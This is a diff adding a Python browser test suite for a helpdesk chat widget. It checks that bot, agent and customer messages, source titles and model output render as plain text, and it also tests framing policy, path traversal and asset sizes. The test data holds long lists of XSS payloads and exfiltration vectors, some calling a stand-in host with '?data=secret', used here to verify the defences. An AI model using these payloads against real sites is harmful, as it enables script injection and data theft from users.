@@ -1,0 +1,220 @@
+"""Hostile words in every place where the widget shows some: nothing runs, and nothing leaves for another host."""
+
+import asyncio
+import gzip
+import json
+import random
+import re
+from uuid import UUID
+
+import pytest
+
+from api.routes import widget
+from memory import chats
+from memory.events import journal
+from memory.models import new_id
+from memory.tenancy import Role
+from tests.browser.conftest import QUESTION, Chat, Desk, OpenDesk, slowly
+
+FAR = "https://evil.example"
+SCRIPTS = (
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
+    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
+    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
+    "<a href=javascript:alert(1)>x</a>", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))",
+    "[x](data:text/html,<script>alert(1)</script>)", "[x](vbscript:msgbox(1))", "![x](javascript:alert(1))",
+    "[x](https://a\"onmouseover=alert(1))", "[x]('javascript:alert(1)')", "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
+    "<template><img src=x onerror=alert(1)></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<style>@import 'javascript:alert(1)'</style>", "<link rel=stylesheet href=javascript:alert(1)>", "<base href=javascript:alert(1)//>",
+    "<form action=javascript:alert(1)><button>x</button></form>", "<isindex action=javascript:alert(1)>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "</li><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
+    "</script><script>alert(1)</script>", "<!--<img src='--><img src=x onerror=alert(1)>'>", "<![CDATA[<script>alert(1)</script>]]>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=`x`onerror=alert(1)>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;", "\u003cscript\u003ealert(1)\u003c/script\u003e", "<img/src/onerror=alert(1)>",
+    "<svg/onload=alert(1)//", "<x onclick=alert(1)>y</x>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= alert(1) %>",
+    "`<img src=x onerror=alert(1)>`", "```\n</code></pre><script>alert(1)</script>\n```", "**<img src=x onerror=alert(1)>**",
+    "# <script>alert(1)</script>", "- <img src=x onerror=alert(1)>", "1. <svg onload=alert(1)>", "> <script>alert(1)</script>",
+    "[<img src=x onerror=alert(1)>](https://evil.example)", "[1]<script>alert(1)</script>", "javascript:alert(1)", "\u202e<script>alert(1)</script>",
+    "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\"&#x6A;avascript:alert(1)\">x</a>", "<img src=x:x onerror=alert(1)>",
+)  # fmt: skip
+LEAKS = (
+    f"![x]({FAR}/1.png)", f"<img src={FAR}/2.png>", f"<svg><image href={FAR}/3.png></svg>", f"<div style='background:url({FAR}/4)'>x</div>",
+    f"<img srcset='{FAR}/5.png 1x'>", f"<video poster={FAR}/6.png>", f"<table background={FAR}/7.png>", f"<input type=image src={FAR}/8.png>",
+    f"<form action={FAR}/9><button autofocus>x</button></form>", f"<audio src={FAR}/10.mp3 autoplay>", f"<link rel=stylesheet href={FAR}/11.css>",
+    f"[click]({FAR}/12?data=secret)", f"<iframe src={FAR}/13></iframe>", f"<script src={FAR}/14.js></script>", f"<link rel=prefetch href={FAR}/15>",
+    f"<style>@import url({FAR}/16.css)</style>", f"<style>body{{background:url({FAR}/17)}}</style>", f"<meta http-equiv=refresh content='0;url={FAR}/18'>",
+    f"<object data={FAR}/19></object>", f"<embed src={FAR}/20>", f"<base href={FAR}/21/>", f"<link rel=dns-prefetch href={FAR}>", f"{FAR}/23",
+    f"[x]({FAR}/24 \"title\")", f"<picture><source srcset={FAR}/25></picture>", f"<track src={FAR}/26>", f"<a href={FAR}/27 ping={FAR}/ping>x</a>",
+    f"![x][r]\n\n[r]: {FAR}/28.png", f"<use href={FAR}/29.svg#x>", f"<q cite={FAR}/30>x</q>", f"<body background={FAR}/31>", f"<frameset><frame src={FAR}/32>",
+    f"<applet code={FAR}/33>", f"<bgsound src={FAR}/34>",
+)  # fmt: skip
+HOSTILE = (*SCRIPTS, *LEAKS)
+
+
+async def planted(one: Desk) -> str:
+    """A session whose every text is hostile: words of the bot, a colleague and a customer, source titles and quotes."""
+    product, tenant = one.product, one.tenant
+    visitor = await product.visitor(tenant)
+    async with journal(product.resources.database, product.resources.streams, tenant.id) as entry:
+        for number, text in enumerate(HOSTILE):
+            session = UUID(visitor.session_id)
+            source = {
+                "id": text,
+                "content": text,
+                "distance": 0.1,
+                "metadata": {"title": text, "heading": text, "url": text},
+            }
+            details = {"sources": [source], "name": text}
+            message_id = new_id()
+            data = {
+                "message_id": str(message_id),
+                "turn_id": str(new_id()),
+                "message": f"{text} [1]",
+                "status": "complete",
+                **details,
+            }
+            await entry.append_message(
+                session, "message.completed", data, message_id=message_id, author="bot", content=f"{text} [1]",
+                details=details,
+            )  # fmt: skip
+            author = ("agent", "customer", "system")[number % 3]
+            await chats.add_message(
+                entry, session, author=author, content=text, details={"name": text} if author == "agent" else None
+            )
+    return json.dumps(
+        {"session": visitor.session_id, "visitor": visitor.headers["Authorization"].removeprefix("Bearer ")}
+    )
+
+
+async def carry(chat: Chat, one: Desk, kept: str) -> None:
+    """Let the widget find that session as its own."""
+    await chat.page.frames[-1].evaluate(
+        "([prefix, kept]) => { for (const [name, value] of Object.entries(kept)) localStorage.setItem(prefix + name, JSON.stringify(value)); }",
+        [f"helpdesk:{one.tenant.widget_key}:", json.loads(kept)],
+    )
+
+
+class TestHostileWords:
+    async def test_nothing_runs_and_nothing_leaves(self, desk: OpenDesk) -> None:
+        assert len(HOSTILE) >= 100
+        one = await desk()
+        kept = await planted(one)
+        chat = await one.tab()
+        await carry(chat, one, kept)
+        await chat.page.reload()
+        await chat.open()
+        await chat.wait_for(".message.bot .sources")
+        assert await chat.find(".message.bot").count() >= len(HOSTILE)
+        for details in await chat.find("details").all():
+            await details.evaluate("(node) => { node.open = true; }")
+        await asyncio.sleep(0.5)
+        frame = chat.page.frames[-1]
+        made = await frame.evaluate(
+            "[...document.querySelectorAll('.log *')].map((node) => node.localName).filter((name) =>"
+            " ['script','img','iframe','svg image','video','audio','object','embed','form','style','link','base','meta','input'].includes(name))"
+        )
+        assert made == []
+        links = await frame.evaluate("[...document.querySelectorAll('.log a')].map((node) => node.href)")
+        assert [link for link in links if not link.startswith("https://evil.example")] == []
+        await chat.shot("hostile")
+        assert chat.ran == []
+        assert chat.off_origin == []
+
+    async def test_a_model_that_writes_them_shows_them_as_words(self, desk: OpenDesk) -> None:
+        one = await desk()
+        chat = await one.tab()
+        await chat.open()
+        agent = await one.product.staff(one.tenant, Role.AGENT)
+        async with one.product.owner.connection(one.tenant.id) as connection:
+            await connection.execute("update users set name = %s where tenant_id = %s", (SCRIPTS[1], one.tenant.id))
+        for text in ("<img src=x onerror=alert(1)> [1]", f"![x]({FAR}/1.png) [1]"):
+            slowly(one.provider, f"A mailbox password is reset in cPanel under Email Accounts > Manage. {text}", 0.001)
+            await chat.say(QUESTION)
+            await chat.wait_for(".message.bot.complete .sources")
+            await asyncio.sleep(0.3)
+        await chat.find("[aria-haspopup=menu]").click()
+        await chat.find("[role=menuitem]").first.click()
+        await chat.wait_for(".message.system")
+        queue = await one.product.http.get("/api/v1/handoffs", headers=agent)
+        handoff = queue.json()["items"][-1]["id"]
+        await one.product.http.post(f"/api/v1/handoffs/{handoff}/messages", json={"message": SCRIPTS[0]}, headers=agent)
+        await chat.wait_for(".message.agent", re.compile("script"))
+        assert chat.ran == []
+        assert chat.off_origin == []
+
+
+class TestWhoMayFrameIt:
+    async def test_only_the_tenants_own_sites(self, desk: OpenDesk, monkeypatch: pytest.MonkeyPatch) -> None:
+        one = await desk(options={"allowed_origins": ["https://shop.example"]})
+        settings = one.product.resources.settings
+        quiet = settings.app.model_copy(update={"debug": False})
+        monkeypatch.setattr(
+            one.product.resources,
+            "settings",
+            type(settings)(**{**{f: getattr(settings, f) for f in settings.__slots__}, "app": quiet}),
+        )
+        page = await one.product.http.get(f"/widget/{one.tenant.widget_key}")
+        assert "frame-ancestors 'self' https://shop.example" in page.headers["content-security-policy"]
+        assert "x-frame-options" not in page.headers
+        other = await one.product.tenant()
+        page = await one.product.http.get(f"/widget/{other.widget_key}")
+        assert page.headers["content-security-policy"].endswith("frame-ancestors 'self'")
+
+    async def test_an_unknown_key_has_no_page(self, desk: OpenDesk) -> None:
+        one = await desk()
+        assert (await one.product.http.get("/widget/nobody")).status_code == 404
+        assert (await one.product.http.get("/widget/assets/x/../main.py")).status_code == 404
+        assert (await one.product.http.get("/widget/assets/x/locales/zz.json")).status_code == 404
+
+    async def test_words_of_a_window_that_is_not_the_site_are_not_heard(self, desk: OpenDesk) -> None:
+        one = await desk()
+        chat = await one.tab()
+        frame = chat.page.frames[-1]
+        await frame.evaluate("window.postMessage({helpdesk: 1, type: 'open'}, '*')")
+        await asyncio.sleep(0.3)
+        assert await frame.evaluate("document.querySelector('.panel').hidden")
+
+
+class TestSizes:
+    def test_the_loader_and_the_page_stay_small(self) -> None:
+        sizes = {name: len(gzip.compress(widget.asset(name), 9)) for name in sorted(widget.names())}
+        page = sum(
+            size for name, size in sizes.items() if name not in ("widget.js", "demo.html", "demo.css", "demo.js")
+        )
+        one_language = (
+            page - sum(size for name, size in sizes.items() if name.startswith("locales/")) + sizes["locales/ar.json"]
+        )
+        print(f"gzipped: loader {sizes['widget.js']} B, page {one_language} B with one language, {page} B with all")
+        assert sizes["widget.js"] < 6 * 1024
+        assert page < 40 * 1024
+
+
+class TestCuts:
+    async def test_at_random_moments_the_text_still_equals_the_stored_message(self, desk: OpenDesk) -> None:
+        """`CUTS` sets how many."""
+        import os
+
+        wanted, cuts, generator = int(os.environ.get("CUTS", "8")), 0, random.Random(4)
+        one = await desk()
+        chat = await one.tab()
+        await chat.open()
+        answers = 0
+        while cuts < wanted:
+            slowly(one.provider, token_s=0.015)
+            await chat.say(QUESTION)
+            answers += 1
+            while await chat.find(".message.bot.complete .sources").count() < answers:
+                await asyncio.sleep(generator.uniform(0.05, 0.5))
+                one.wire.cut()
+                cuts += 1
+            await self.same_as_stored(one, chat, answers)
+
+    async def same_as_stored(self, one: Desk, chat: Chat, answers: int) -> None:
+        stored = [row["content"] for row in await one.stored() if row["author"] == "bot"][-1]
+        shown = await chat.find(".message.bot.complete .bubble").last.evaluate(
+            "(node) => { const copy = node.cloneNode(true); copy.querySelectorAll('.cite').forEach((mark) => mark.replaceWith(' '));"
+            " return copy.textContent; }"
+        )
+        assert re.findall(r"\w+", shown) == re.findall(r"\w+", re.sub(r"\[\d+\]", " ", stored))
